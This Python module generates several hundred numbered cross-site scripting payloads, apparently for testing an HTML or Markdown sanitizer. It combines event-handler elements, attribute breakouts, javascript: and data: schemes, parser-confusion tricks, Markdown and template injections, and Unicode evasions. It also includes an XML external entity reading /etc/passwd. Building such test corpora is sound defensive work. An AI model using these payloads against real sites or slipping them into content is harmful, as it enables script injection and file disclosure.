"""Some hundreds of strings that try to run script, made from parts: elements, events, writings."""

from collections.abc import Callable, Iterator
from functools import partial
from itertools import cycle, islice

CALL = "alert(%d)"
"""What each tries to call, with its own number, so that whatever fires is known."""

ELEMENTS = (
    ("img src=x", "onerror"),
    ("img src=https://none.invalid/x.png alt=x", "onload"),
    ("svg", "onload"),
    ("svg><g", "onload"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x", "onend"),
    ("math", "onmouseover"),
    ("body", "onpageshow"),
    ("video src=x", "onerror"),
    ("video><source", "onerror"),
    ("audio src=x", "onerror"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("a href=# tabindex=0 autofocus", "onfocus"),
    ("p tabindex=0 autofocus", "onfocusin"),
    ("x-y tabindex=0 autofocus contenteditable", "onfocus"),
    ("marquee", "onstart"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("embed src=x", "onerror"),
    ("link rel=stylesheet href=data:text/css,", "onload"),
    ("style", "onload"),
    ("script src=x", "onerror"),
    ("image src=x", "onerror"),
    ("table background=x", "onpointerover"),
    ("td", "onmouseenter"),
    ("li style=animation-name:x", "onanimationstart"),
    ("abbr title=x", "onclick"),
    ("time datetime=2017", "onwheel"),
    ("ol start=1", "oncopy"),
    ("dialog open", "onclose"),
    ("frameset", "onload"),
    ("b popover", "onbeforetoggle"),
)

Writing = Callable[[str, str, str], str]
"""An element with one handler, from the element's beginning, the event and the call."""


def entities(text: str, form: str) -> str:
    return "".join(form % ord(letter) for letter in text)


WRITINGS: tuple[Writing, ...] = (
    lambda element, event, call: f"<{element} {event}={call}>",
    lambda element, event, call: f'<{element} {event}="{call}">',
    lambda element, event, call: f"<{element} {event}='{call}'>x",
    lambda element, event, call: f"<{element.swapcase()} {event.title()}={call}>",
    lambda element, event, call: f"<{element.replace(' ', '/')}/{event}={call}//",
    lambda element, event, call: f"<{element}\n{event}\n=\n{call}\n>",
    lambda element, event, call: f"<{element}\t{event}\t=`{call}`>",
    lambda element, event, call: f"<{element}\f{event}={call}>",
    lambda element, event, call: f"<{element} {event}={entities(call, '&#%d;')}>",
    lambda element, event, call: f"<{element} {event}={entities(call, '&#x%x')}>",
    lambda element, event, call: f"<<{element} {event}={call} <b>",
    lambda element, event, call: f"<{element} a='>' {event}={call}>",
    lambda element, event, call: f"<{element} {event}=self[`al`+`ert`]({call[6:]}>",
    lambda element, event, call: f'<{element} title="</p><{element} {event}={call}>">',
    lambda element, event, call: f"<{element} {event} {event}={call} /{event}={call}>",
    lambda element, event, call: f"&lt;{element.replace('<', '&lt;')} {event}={call}&gt;",
    lambda element, event, call: f"%3C{element.replace('<', '%3C')} {event}={call}%3E",
    lambda element, event, call: f"＜{element.replace('<', '＜')} {event}={call}＞",
)

BREAKOUTS = ("", '">', "'>", "</title>", "</script>", "</style>", "</textarea>", "-->", "]]>", "</p>", "</a>",
             "</noscript>", "`", "<!--", "\\\">", "</svg>", "<b title='", "*/", "?>", "&quot;>")  # fmt: skip

SCHEMES = (
    "javascript:%s",
    "JaVaScRiPt:%s",
    " javascript:%s",
    "java\tscript:%s",
    "java\nscript:%s",
    "\x01javascript:%s",
    "javascript:%%0a%s",
    "javascript://e.example/%%0a%s",
    "view-source:javascript:%s",
    "vbscript:%s",
    "data:text/html,<script>%s</script>",
    "data:image/svg+xml,<svg onload=%s>",
    '//e.example/"onmouseover=%s//',
    'https://e.example/"onmouseover=%s//',
    "https://e.example/' onfocus=%s autofocus='",
    'mailto:a@e.example"onclick=%s//',
)

CARRIERS = (
    '<a href="%s">x</a>',
    "<a href=%s>x</a>",
    "[x](%s)",
    "[x](<%s>)",
    "[x][r]\n\n[r]: %s",
    "![x](%s)",
    "<%s>",
    '<iframe src="%s"></iframe>',
    '<button formaction="%s">x</button>',
    '<object data="%s"></object>',
    '<embed src="%s">',
    '<svg><use href="%s"/></svg>',
    '<meta http-equiv=refresh content="0;url=%s">',
    '<base href="%s">',
    '<area href="%s">',
    '<p style="background:url(%s)">x</p>',
    '<link rel=icon href="%s">',
    "%s",
)

CONFUSIONS = (
    "<select><template><img src=x onerror=%s></template></select>",
    "<a id=body></a><a id=user-x name=content href=x onclick=%s>x</a>",
    "<scr<script>ipt>%s</scr</script>ipt>",
    "<script>%s</script>",
    "<script x>%s",
    "<script\n>%s</script\n>",
    "<svg><script>%s</script></svg>",
    "<svg><script href=data:,%s />",
    "<script type=module>%s</script>",
    "<!-- --!><script>%s</script>",
    "<?x ><img src=x onerror=%s>?>",
    "</ ><img src=x onerror=%s>",
    "<iframe srcdoc='<script>parent.%s</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.%s&gt;'></iframe>",
    "<p lang='x\" onclick=%s'>x</p>",
    "<img alt='\"><script>%s</script>' src='https://e.example/x.png'>",
    "<abbr title='&quot;&gt;&lt;img src=x onerror=%s&gt;'>x</abbr>",
)

MARKDOWN = (
    "# Heading {onclick=%s}\n\n# Heading {: #body onclick=%s }",
    "[x](https://e.example/){: onmouseover=%s }",
    "*x*{onfocus=%s autofocus tabindex=0}",
    '[x](https://e.example/ "t\\" onmouseover=%s ")',
    "[x](https://e.example/ 't' onmouseover=%s ')",
    "[<img src=x onerror=%s>](https://e.example/)",
    '![" onerror=%s "](https://e.example/x.png)',
    '![x](https://e.example/x.png" onerror="%s)',
    '*[UN]: "><img src=x onerror=%s>\n\nThe UN met.',
    'Note[^"><img src=x onerror=%s>].\n\n[^"><img src=x onerror=%s>]: Text.',
    "Note[^1].\n\n[^1]: <img src=x onerror=%s>",
    '``` "><img src=x onerror=%s>\ncode\n```',
    "`<img src=x onerror=%s>`",
    "    <img src=x onerror=%s>",
    'a | b\n--- | ---\n<img src=x onerror=%s> | "onclick=%s',
    "Term\n:   <img src=x onerror=%s>",
    "<div markdown=1 onclick=%s>\n*x*\n</div>",
    "> <img src=x\n> onerror=%s>",
    "- <img src=x\n  onerror=%s>",
    '<a@e.example"onclick=%s>',
    '<https://e.example/"onclick=%s>',
    'https://e.example/?q="onmouseover=%s&x=<b>',
    'a"onclick=%s@e.example',
    'A/RES/71/280"onclick=%s',
    "A/RES/71/280<img src=x onerror=%s>",
    "resolution 71/280'onclick=%s'",
    "&#x3c;img src=x onerror=%s&#x3e;",
    "&amp;lt;img src=x onerror=%s&amp;gt;",
    "\\<img src=x onerror=%s\\>",
    "<img src=x \\\nonerror=%s>",
    '[x]: https://e.example/ "><img src=x onerror=%s>"\n\n[x]',
    "<<script>%s//<</script>",
    "x<!-- [x](-->\n<img src=x onerror=%s>)",
    "\u0002img src=x onerror=%s\u0003",
    "stx:1\u0003<img src=x onerror=%s>",
    "wzxhzdk:0 <img src=x onerror=%s> klzzwxh:0000",
)

FORMATS = (
    "]]><script>%s</script><![CDATA[",
    "]]></description></item><item><title>x</title><description><![CDATA[<script>%s</script>",
    "<?xml-stylesheet href='data:text/xsl,%s'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;%s</x>",
    "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>%s</html:script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>%s</x:script>",
    "\\u003cscript\\u003e%s\\u003c/script\\u003e",
    "\",\"content_html\":\"<script>%s</script>",
    "\\nX-ALT-DESC;FMTTYPE=text/html:<script>%s</script>",
    "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:%s",
    "x;ALTREP=\"data:text/html,<script>%s</script>\":y",
    "</script><script>%s</script>",
    "\u2028%s\u2029</script><script>%s//",
    "{{ %s }}",
    "{%% %s %%}",
    "${%s}",
    "#{%s}<%%= %s %%>",
    "'-%s-'",
    "\"-%s-\"",
    "\\\"-%s}//",
    "+ADw-script+AD4-%s+ADw-/script+AD4-",
    "\u202e<img src=x onerror=%s>",
    "\ufeff<script>%s</script>",
    "<scr\u0130pt>%s</scr\u0130pt>",
    "<\u017fcript>%s</\u017fcript>",
    "<img src=x one\u0000rror=%s>",
    "<a href=java\u0000script:%s>x</a>",
)  # fmt: skip


Making = Callable[[str], str]
"""A payload from what it is to call."""


def make_payloads() -> list[str]:
    """All of them, each with a number of its own; the same list every time."""
    plain = (partial(_fill, text) for text in (*CONFUSIONS, *MARKDOWN, *FORMATS))
    makings: list[Making] = [*_handlers(), *_addresses(), *plain]
    return [make(CALL % number) for number, make in enumerate(makings)]


def _handlers() -> Iterator[Making]:
    """Every element in every second writing, behind each breakout in turn."""
    breakouts = cycle(BREAKOUTS)
    for number, (element, event) in enumerate(ELEMENTS):
        for writing in islice(WRITINGS, number % 2, None, 2):
            yield partial(_handle, next(breakouts), writing, element, event)


def _handle(breakout: str, writing: Writing, element: str, event: str, call: str) -> str:
    return breakout + writing(element, event, call)


def _addresses() -> Iterator[Making]:
    """Every carrier with every second scheme."""
    for number, carrier in enumerate(CARRIERS):
        for scheme in islice(SCHEMES, number % 2, None, 2):
            yield partial(_fill, carrier.replace("%s", scheme))


def _fill(text: str, call: str) -> str:
    return text.replace("%s", call).replace("%%", "%")
